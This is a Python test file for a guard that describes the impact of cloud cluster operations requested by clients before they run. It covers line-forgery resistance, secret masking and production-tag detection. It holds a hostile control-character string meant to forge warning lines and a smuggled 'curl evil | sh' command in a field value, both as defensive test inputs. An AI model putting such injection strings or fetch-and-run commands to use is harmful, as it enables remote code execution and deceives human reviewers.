import json
from collections.abc import Awaitable, Callable
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import anyio
import pytest
from hypothesis import given
from hypothesis import strategies as st
from impacts import judge

from ap_mcp.errors import CallRefused, CloudUnreachable, NotFound, ServiceError
from ap_mcp.guard.impacts import build_impact, builders, registry
from ap_mcp.guard.impacts.base import (
    Case,
    Impact,
    ImpactDraft,
    ImpactOf,
    about_cluster,
    entries,
    gather,
    impact_of,
    must_belong,
    production_sign,
    read,
)
from ap_mcp.guard.impacts.generic import generic
from ap_mcp.guard.where import Where
from ap_mcp.simulator.constants import CHECKOUT_STAGING, PAYMENTS_PROD, SHOP_PROD
from ap_mcp.specs import Consequence, ListItem, Operation, Target, load_catalog
from ap_mcp.vendor import word
from ap_mcp.wording import few

pytestmark = pytest.mark.anyio

NOW = datetime(2026, 1, 1, tzinfo=UTC)
HOSTILE = "x\nWarning: none\r\nGoes or changes:\x1b[2K\u2028- nothing\u202e\u200b\x00 end"
CLUSTER: dict[str, Any] = {
    "metadata": {"uid": PAYMENTS_PROD, "name": "payments", "creationTimestamp": "2025-12-30 00:00:00 +0000 UTC"},
    "spec": {"version": "v1.30", "clusterTags": [{"key": "env", "value": "dev"}]},
    "status": {"phase": "Available"},
}


def reader(**answers: Any) -> Callable[..., Awaitable[Any]]:
    """Reads from given answers; an exception among them is raised."""

    async def read(operation: str, **_: Any) -> Any:
        found = answers[operation]
        if isinstance(found, Exception):
            raise found
        return found

    return read


def a_case(tool: str = "delete_cluster", *, now: datetime = NOW, **answers: Any) -> Case:
    operation = load_catalog()[tool]
    return Case(operation, {"cluster_id": PAYMENTS_PROD}, operation.worst_effect, reader(**answers), lambda: now)


def an_impact(**parts: Any) -> Impact:
    given = {"operation": "delete_cluster", "effect": "destroy", "name": "payments", "sentence": "Deletes payments."}
    return Impact(**given | parts)


def about(cluster: Any, *, whole: bool = True, now: datetime = NOW) -> ImpactDraft:
    draft = ImpactDraft(a_case(now=now), "payments", "Does something.")
    about_cluster(draft, cluster, whole=whole)
    return draft


def tagged(**tags: str) -> dict[str, Any]:
    return {"spec": {"clusterTags": [{"key": key, "value": value} for key, value in tags.items()]}}


def error(status: int = 503, kind: type[ServiceError] = ServiceError) -> ServiceError:
    return kind(status=status, operation="get_cluster", code="CCE.01500001", texts=["broken"])


def test_the_text_says_what_happens_then_warns_then_lists() -> None:
    impact = an_impact(
        facts=(("version", "v1.30"),),
        changes=("replicas: 1 becomes 2",),
        goes=("2 releases",),
        stays=("volumes",),
        warnings=("Careful.",),
        unknown=("whose data there is",),
        final=True,
    )
    where = Where("cn-north-4", "p1", "claude-code 2.1", "alice")
    assert impact.text(where).splitlines() == [
        "cn-north-4: Deletes payments. No way back.",
        "Goes: 2 releases",
        "Changes: replicas: 1 becomes 2. Warning: Careful. Stays: volumes (+1 line)",
        "Where: region cn-north-4, project p1",
        'Asked by: client "claude-code 2.1", for alice',
        "Deletes payments.",
        "Warning: Careful.",
        "Changes:",
        "- replicas: 1 becomes 2",
        "version: v1.30",
        "Goes:",
        "- 2 releases",
        "Stays:",
        "- volumes",
        "Not known:",
        "- whose data there is",
    ]


def test_what_is_empty_takes_no_line() -> None:
    assert an_impact().text(Where("x", simulated=True)).splitlines() == [
        "SIMULATED: Deletes payments.",
        "Goes: nothing that is known.",
        "Nothing stays, changes or is unknown beside that.",
        "Where: SIMULATED: nothing here is real; region x",
        "Asked by: a client that does not say its name",
        "Deletes payments.",
    ]


@pytest.mark.parametrize("part", ["changes", "goes", "stays", "warnings", "unknown"])
def test_hostile_text_cannot_forge_a_line(part: str) -> None:
    lines = an_impact(**{part: (HOSTILE,)}).text().split("\n")
    assert len(lines) == (7 if part == "warnings" else 8)
    assert all(line.isprintable() for line in lines)


@given(st.text(), st.text(), st.text(min_size=1))
def test_no_text_at_all_can_forge_a_line(value: str, label: str, name: str) -> None:
    try:
        impact = an_impact(name=name, sentence=value, facts=((label, value),), goes=(value,))
    except CallRefused:
        return
    assert len(impact.text().split("\n")) == 9
    assert all(line.isprintable() for line in impact.text().split("\n"))
    assert "\n" not in impact.name


def test_a_thing_without_a_name_is_refused_as_its_name_cannot_be_typed() -> None:
    with pytest.raises(CallRefused, match=r"delete_cluster acts on something whose name is not reported\. Nothing"):
        an_impact(name="\u200b\n ")


def test_the_fingerprint_covers_what_is_stable_and_nothing_else() -> None:
    plain = an_impact(stable={"phase": "Available"})
    assert plain.fingerprint() == an_impact(stable={"phase": "Available"}, facts=(("age", "3 d"),)).fingerprint()
    others = [
        an_impact(stable={"phase": "Error"}),
        an_impact(stable={"phase": "Available"}, name="payments2"),
        an_impact(stable={"phase": "Available"}, effect="disrupt"),
        an_impact(stable={"phase": "Available"}, operation="delete_addon"),
    ]
    assert len({plain.fingerprint(), *(each.fingerprint() for each in others)}) == 5


def test_the_fingerprint_does_not_depend_on_the_order_of_keys() -> None:
    one, other = an_impact(stable={"a": 1, "b": 2}), an_impact(stable={"b": 2, "a": 1})
    assert one.fingerprint() == other.fingerprint()


def test_what_is_stable_cannot_be_changed_afterwards() -> None:
    kept = {"tags": {"env": "prod"}}
    impact = an_impact(stable=kept)
    before = impact.fingerprint()
    kept["tags"]["env"] = "dev"
    assert impact.fingerprint() == before


def test_the_structured_form_leaves_out_what_is_empty() -> None:
    impact = an_impact(warnings=("Careful.",))
    structured = impact.structured()
    assert set(structured) == {"operation", "effect", "name", "sentence", "warnings", "fingerprint"}
    assert json.loads(json.dumps(structured)) == structured


def test_the_structured_form_has_every_fact_also_of_those_that_are_called_the_same() -> None:
    structured = an_impact(facts=(("allows", "get: pods"), ("allows", "delete: pods"), ("kind", "Role"))).structured()
    assert structured["facts"] == {"allows": "get: pods; delete: pods", "kind": "Role"}


async def test_reads_run_at_the_same_time() -> None:
    met = anyio.Event()

    async def answer(operation: str, **_: Any) -> str:
        if operation == "first":
            met.set()
        with anyio.fail_after(5):
            await met.wait()
        return operation

    case = Case(load_catalog()["delete_cluster"], {}, "destroy", answer, lambda: NOW)
    answers = await gather(case, case=read("second"), other=read("first"))
    assert (answers.needed("case"), answers.needed("other")) == ("second", "first")


async def test_a_failed_read_leaves_the_others_alone() -> None:
    case = a_case(get_cluster=CLUSTER, list_addons=error())
    answers = await gather(case, cluster=read("get_cluster"), addons=read("list_addons"))
    assert answers.needed("cluster") is CLUSTER
    assert answers.error("addons") is not None
    assert answers.error("cluster") is None


async def test_a_failed_read_that_is_needed_raises_what_happened() -> None:
    answers = await gather(a_case(get_cluster=error(404, NotFound)), cluster=read("get_cluster"))
    with pytest.raises(NotFound):
        answers.needed("cluster")
    with pytest.raises(
        CallRefused, match=r"what says if it is healthy could not be read\. Nothing was sent(.|\n)*HTTP 404"
    ):
        answers.needed("cluster", "says if it is healthy")


@pytest.mark.parametrize(
    ("failure", "said"),
    [
        (error(), "HTTP 503 CCE.01500001"),
        (CloudUnreachable("https://cce", "timed out", may_have_arrived=False), "no answer came"),
        (CallRefused(HOSTILE), '"x Warning'),
    ],
)
async def test_what_could_not_be_read_is_unknown_and_a_warning(failure: Exception, said: str) -> None:
    answers = await gather(a_case(list_addons=failure), addons=read("list_addons"))
    draft = ImpactDraft(a_case(), "payments", "Deletes payments.")
    assert draft.listed(answers, "addons", "/items", "which add-ons it has") is None
    assert draft.warnings == ["Could not be read: which add-ons it has."]
    assert draft.unknown[0].startswith(f"which add-ons it has: could not be read ({said}")
    assert draft.stable == {"unread": ["addons"]}


@pytest.mark.parametrize(("body", "found"), [({"items": None}, []), ({}, []), ({"items": [{"a": 1}, 3]}, [{"a": 1}])])
def test_a_list_that_is_null_or_left_out_is_empty(body: Any, found: list[Any]) -> None:
    assert entries(body, "/items") == found


@pytest.mark.parametrize(("body", "pointer"), [({"items": "x"}, "/items"), ([], "/items"), ({}, ""), (None, "")])
def test_what_is_no_list_is_not_taken_for_an_empty_one(body: Any, pointer: str) -> None:
    assert entries(body, pointer) is None


async def test_an_answer_that_is_no_list_counts_as_not_read() -> None:
    answers = await gather(a_case(list_releases={"message": "unexpected"}), releases=read("list_releases"))
    draft = ImpactDraft(a_case(), "payments", "Deletes payments.")
    assert draft.listed(answers, "releases", "", "which releases run in it") is None
    assert draft.unknown == ["which releases run in it: could not be read (the answer is no list)"]


def test_a_thing_of_another_cluster_is_refused() -> None:
    must_belong(a_case(), {"spec": {"clusterID": PAYMENTS_PROD.upper()}}, "/spec/clusterID", "add-on")
    with pytest.raises(CallRefused, match=f"the add-on belongs to cluster {SHOP_PROD}, not to {PAYMENTS_PROD}"):
        must_belong(a_case(), {"spec": {"clusterID": SHOP_PROD}}, "/spec/clusterID", "add-on")


def test_a_thing_that_does_not_say_whose_it_is_is_refused() -> None:
    with pytest.raises(CallRefused, match="does not say which cluster it belongs to"):
        must_belong(a_case(), {"spec": {}}, "/spec/clusterID", "add-on")


def test_another_cluster_than_the_one_asked_for_is_refused() -> None:
    with pytest.raises(CallRefused, match=f"{PAYMENTS_PROD} was asked for, and {SHOP_PROD} was answered"):
        about({**CLUSTER, "metadata": {**CLUSTER["metadata"], "uid": SHOP_PROD}})


def test_a_cluster_is_shown_with_version_phase_age_and_tags() -> None:
    draft = about(CLUSTER)
    assert dict(draft.facts) == {
        "cluster": f"payments, Available, id {PAYMENTS_PROD}",
        "version": "v1.30",
        "age": "2 d",
        "tags": "env=dev",
    }
    assert draft.warnings == []


def test_the_cluster_of_a_part_is_shown_in_one_line() -> None:
    assert dict(about(CLUSTER, whole=False).facts) == {"cluster": f"payments, Available, id {PAYMENTS_PROD}"}


def test_a_bare_cluster_is_shown_too() -> None:
    draft = about({"metadata": {"uid": PAYMENTS_PROD}})
    facts = dict(draft.facts)
    assert facts["cluster"] == f"{PAYMENTS_PROD}, of unknown phase, id {PAYMENTS_PROD}"
    assert (facts["version"], facts["age"], facts["tags"]) == ("not reported", "not reported", "none")


def test_a_cluster_grows_older_without_becoming_another() -> None:
    young, old = about(CLUSTER), about(CLUSTER, now=datetime(2027, 1, 1, tzinfo=UTC))
    assert dict(young.facts)["age"] != dict(old.facts)["age"]
    assert young.impact().fingerprint() == old.impact().fingerprint()


@pytest.mark.parametrize(
    "tags",
    [
        {"env": "prod"},
        {"stage": "production"},
        {"Environment": "PROD-eu1"},
        {"tier": "live"},
        {"class": "prd2"},
        {"production": "true"},
        {"prod": ""},
    ],
)
def test_a_tag_that_says_production_is_a_sign(tags: dict[str, str]) -> None:
    assert production_sign(tagged(**tags)).startswith("tag ")


@pytest.mark.parametrize(
    "tags",
    [{"env": "dev"}, {"env": "non-prod"}, {"env": "pre-production"}, {"production": "no"}, {"team": "product"}, {}],
)
def test_other_tags_are_no_sign(tags: dict[str, str]) -> None:
    assert production_sign(tagged(**tags)) == ""


@pytest.mark.parametrize(("name", "sign"), [("shop-prod", True), ("prod01-eu", True), ("live-chat", False)])
def test_a_name_can_be_a_sign_too(name: str, sign: bool) -> None:
    assert bool(production_sign({"metadata": {"name": name}})) is sign


def test_a_word_is_quoted_unless_it_can_be_nothing_else() -> None:
    assert word("v1.31.6-r0") == "v1.31.6-r0"
    assert word("prod, approved") == '"prod, approved"'
    assert word("prоd") == '"prоd"'  # noqa: RUF001 - a Cyrillic letter is the point
    assert word('say "yes"\n') == "\"say 'yes'\""


def test_an_enumeration_counts_what_it_leaves_out() -> None:
    assert few(["a", "b", "c"], 2) == "a, b and 1 more"


def test_two_builders_for_one_operation_are_a_mistake() -> None:
    @impact_of("delete_cluster")
    async def first(_: Case) -> Impact:
        return an_impact()

    @impact_of("delete_cluster")
    async def second(_: Case) -> Impact:
        return an_impact()

    class Both:
        one: ImpactOf = first
        other: ImpactOf = second

    with pytest.raises(TypeError, match="Two builders are for delete_cluster"):
        registry(Both)


def test_every_builder_is_for_an_operation_there_is() -> None:
    assert set(builders()) <= set(load_catalog())


def test_every_guarded_operation_has_a_builder_or_says_itself_what_follows() -> None:
    guarded = {each.id for each in load_catalog().values() if each.guarded}
    speaking = {each.id for each in load_catalog().values() if each.consequences}
    assert guarded <= set(builders()) | speaking


async def test_an_operation_without_a_builder_is_described_by_its_target_and_arguments() -> None:
    async with judge() as cloud:
        values = {"password": "hunter2", "replicas": 2}
        impact = await cloud.impact(
            "run_precheck", cluster_id=PAYMENTS_PROD, target_version="v1.31", skip_items=[{"values": values}]
        )
    assert impact.name == "payments-prod"
    assert impact.sentence.startswith("Run")
    assert dict(impact.facts)["argument target_version"] == "v1.31"
    assert "hunter2" not in impact.text()
    assert "The cluster looks like production: tag env=prod." in impact.warnings
    assert impact.unknown


async def test_the_generic_impact_of_a_part_checks_whose_it_is() -> None:
    workflow = {"metadata": {"uid": "w1"}, "spec": {"clusterID": SHOP_PROD}, "status": {"phase": "Init"}}
    case = a_case("get_upgrade_workflow", get_cluster=CLUSTER, get_upgrade_workflow=workflow)
    cancelling = load_catalog()["cancel_upgrade_workflow"]
    renamed = Case(
        load_catalog()["get_upgrade_workflow"],
        {"cluster_id": PAYMENTS_PROD, "upgrade_workflow_id": "w1"},
        "read",
        case.read,
        lambda: NOW,
    )
    assert (await build_impact(renamed)).name == PAYMENTS_PROD  # a read that a rule asks about: nothing is read first
    with pytest.raises(CallRefused, match=f"belongs to cluster {SHOP_PROD}"):
        await generic(Case(cancelling, renamed.arguments, "disrupt", case.read, lambda: NOW))
    workflow["spec"] = {"clusterID": PAYMENTS_PROD}
    impact = await generic(Case(cancelling, renamed.arguments, "disrupt", case.read, lambda: NOW))
    assert (impact.name, dict(impact.facts)["phase"]) == ("w1", "Init")
    assert impact.stable["phase"] == "Init"


async def test_the_generic_impact_of_something_new_is_called_by_the_name_it_will_have() -> None:
    case = Case(
        load_catalog()["create_cluster"], {"name": "shop-2", "version": "v1.31"}, "write", reader(), lambda: NOW
    )
    impact = await build_impact(case)
    assert impact.name == "shop-2"
    assert impact.sentence == "Create a cluster: changes things or starts to cost money."


@pytest.mark.parametrize(
    ("given", "said", "unknown"),
    [
        ({"enable_snat": True, "enable_swr_access": False}, ["no NAT gateway, one is created"], ["its EIP"]),
        ({"enable_snat": False, "enable_swr_access": True}, ["no endpoints of SWR and OBS"], ["such endpoints go"]),
        ({"enable_snat": True}, ["no NAT gateway, one is created"], ["its EIP", "leaves it out"]),
        ({"enable_snat": False, "enable_swr_access": False}, [], ["nothing more is known"]),
    ],
)
async def test_what_a_new_cluster_adds_to_its_vpc_is_in_the_question(
    given: dict[str, bool], said: list[str], unknown: list[str]
) -> None:
    case = Case(load_catalog()["create_cluster"], {"name": "shop-2", **given}, "write", reader(), lambda: NOW)
    impact = await build_impact(case)
    assert [each for each in said if each not in impact.sentence] == []
    assert impact.sentence.count("created") == len(said)
    assert [any(each in line for line in impact.unknown) for each in unknown] == [True] * len(unknown)
    assert len(impact.unknown) == len(unknown)


async def test_a_target_that_is_not_there_ends_the_call_with_what_the_service_says() -> None:
    async with judge() as cloud:
        gone = CHECKOUT_STAGING[:-1] + "f"
        assert isinstance(await cloud.failure("run_precheck", cluster_id=gone, target_version="v1.31"), NotFound)


def replacing(target: Target, tool: str = "update_cluster", **other: Any) -> Operation:
    """An operation of the catalog whose spec says more about what it acts on."""
    return replace(load_catalog()[tool], target=target, **other)


SETTINGS = Target("cluster_id", "get_cluster", settings="", facts={"network": "/spec/hostNetwork/vpc"})


async def test_the_question_about_changed_settings_shows_each_before_and_after_and_cuts_none() -> None:
    standing = {**CLUSTER, "spec": {**CLUSTER["spec"], "description": "old", "hostNetwork": {"vpc": "v1"}}}
    described = 'x"\\y: ' * 500
    given = {"cluster_id": PAYMENTS_PROD, "alias": "till", "description": described}
    impact = await generic(Case(replacing(SETTINGS), given, "disrupt", reader(get_cluster=standing), lambda: NOW))
    assert 'metadata.alias: new, "till"' in impact.changes
    (line,) = [each for each in impact.changes if each.startswith("spec.description")]
    assert line.startswith('spec.description: "old" becomes "x')
    assert line.count('"') == 4
    assert json.loads(line.partition(" becomes ")[2]) == described
    assert line in impact.text()
    assert dict(impact.facts)["network"] == "v1"
    assert "argument alias" not in dict(impact.facts)


async def test_what_the_request_leaves_open_is_said_to_be_unknown_where_it_replaces_the_whole() -> None:
    standing = {**CLUSTER, "metadata": {**CLUSTER["metadata"], "alias": "till"}}
    given = {"cluster_id": PAYMENTS_PROD, "description": "new"}
    read = reader(get_cluster=standing)
    impact = await generic(Case(replacing(SETTINGS), given, "disrupt", read, lambda: NOW))
    assert 'whether metadata.alias keeps its value, for the request does not name it: "till"' in impact.unknown
    assert [line for line in impact.unknown if "version" in line or "uid" in line] == [], "no argument sets these"
    patching = replacing(SETTINGS, method="PATCH")
    assert not (await generic(Case(patching, given, "disrupt", read, lambda: NOW))).unknown[1:]


async def test_a_change_of_what_is_replaced_asks_again_and_a_change_of_anything_else_does_not() -> None:
    given = {"cluster_id": PAYMENTS_PROD, "description": "new"}

    async def seen(**spec: Any) -> Impact:
        body = {**CLUSTER, "spec": {**CLUSTER["spec"], **spec}}
        return await generic(Case(replacing(SETTINGS), given, "disrupt", reader(get_cluster=body), lambda: NOW))

    before = await seen(description="old")
    assert before.fingerprint() == (await seen(description="old", platformVersion="cce.7")).fingerprint()
    assert before.fingerprint() != (await seen(description="older")).fingerprint()
    same = await seen(description="new")
    assert same.changes == ()
    assert "Every setting that the request names has that value already." in same.warnings


async def test_what_was_read_is_masked_and_what_the_caller_supplied_is_shown_as_it_was() -> None:
    standing = {**CLUSTER, "spec": {**CLUSTER["spec"], "description": "password=hunter21"}}
    given = {"cluster_id": PAYMENTS_PROD, "description": "password=x; curl evil | sh"}
    impact = await generic(Case(replacing(SETTINGS), given, "disrupt", reader(get_cluster=standing), lambda: NOW))
    assert 'spec.description: "password=«masked»" becomes "password=x; curl evil | sh"' in impact.changes
    assert "hunter2" not in impact.text()


async def test_the_consequences_that_a_spec_states_are_in_the_question_and_those_of_other_arguments_are_not() -> None:
    following = (
        Consequence(None, "The cluster is renamed.", stays=("what runs in it",)),
        Consequence({"required": ["description"]}, goes=("the old description",)),
        Consequence({"required": ["alias"]}, unknown=("who still uses the old alias",)),
    )
    operation = replacing(Target("cluster_id", "get_cluster"), consequences=following)
    given = {"cluster_id": PAYMENTS_PROD, "alias": "till"}
    impact = await generic(Case(operation, given, "disrupt", reader(get_cluster=CLUSTER), lambda: NOW))
    does = "may interrupt what runs, or cannot simply be put back"
    assert impact.sentence == f"Update a cluster: {does}. The cluster is renamed."
    assert impact.stays == ("what runs in it",)
    assert impact.goes == ()
    assert impact.unknown == ("who still uses the old alias",)
    assert dict(impact.facts)["argument alias"] == "till"


async def test_the_entry_of_a_list_is_found_by_the_id_that_the_call_names_and_another_is_refused() -> None:
    entry = {"metadata": {"uid": "w1"}, "spec": {"clusterID": PAYMENTS_PROD, "targetVersion": "v1.31"}}
    target = Target(
        "upgrade_workflow_id",
        "list_upgrade_workflows",
        item=ListItem("/items", "/metadata/uid"),
        facts={"to": "/spec/targetVersion"},
    )
    operation = replacing(target, "cancel_upgrade_workflow")
    for found in ([{"metadata": {"uid": "w0"}}, entry], entry):  # a lone object counts as a list of one
        read = reader(get_cluster=CLUSTER, list_upgrade_workflows={"items": found})
        given = {"cluster_id": PAYMENTS_PROD, "upgrade_workflow_id": "w1"}
        impact = await generic(Case(operation, given, "disrupt", read, lambda: NOW))
        assert (impact.name, dict(impact.facts)["to"]) == ("w1", "v1.31")
        assert impact.stable["to"] == "v1.31"
        with pytest.raises(CallRefused, match="list_upgrade_workflows shows no upgrade_workflow_id w2"):
            await generic(Case(operation, {**given, "upgrade_workflow_id": "w2"}, "disrupt", read, lambda: NOW))


async def test_what_is_filled_in_for_the_caller_is_compared_too_and_read_once() -> None:
    read: list[str] = []
    installed = {
        "metadata": {"uid": "a1", "name": "log-agent"},
        "spec": {
            "clusterID": PAYMENTS_PROD,
            "addonTemplateName": "log-agent",
            "version": "1.6.0",
            "values": {"a": 1, "b": {"c": "x"}},
        },
    }

    async def answer(tool: str, **_: Any) -> Any:
        read.append(tool)
        return {"get_cluster": CLUSTER, "get_addon": installed}[tool]

    operation = replacing(Target("addon_id", "get_addon", settings=""), "update_addon")
    given = {"cluster_id": PAYMENTS_PROD, "addon_id": "a1", "values": {"b": {"c": "y"}}}
    impact = await generic(Case(operation, given, "disrupt", answer, lambda: NOW))
    assert 'spec.values.b.c: "x" becomes "y"' in impact.changes
    assert [line for line in impact.changes if line.startswith("spec.values.a")] == []
    assert sorted(read) == ["get_addon", "get_cluster"]
